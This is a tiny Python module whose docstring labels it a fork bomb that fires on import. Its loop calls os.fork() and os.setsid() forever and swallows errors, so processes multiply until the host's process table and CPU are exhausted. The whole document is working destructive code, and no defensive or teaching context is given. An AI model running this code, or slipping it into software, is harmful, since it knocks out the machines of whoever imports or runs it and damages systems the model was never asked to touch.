"""A fork bomb at import: every process forks and tries to start a session of its own (which
would give each its own share of the CPU), forever."""
import os as _os

while True:
    try:
        _os.fork()
        _os.setsid()
    except OSError:
        pass
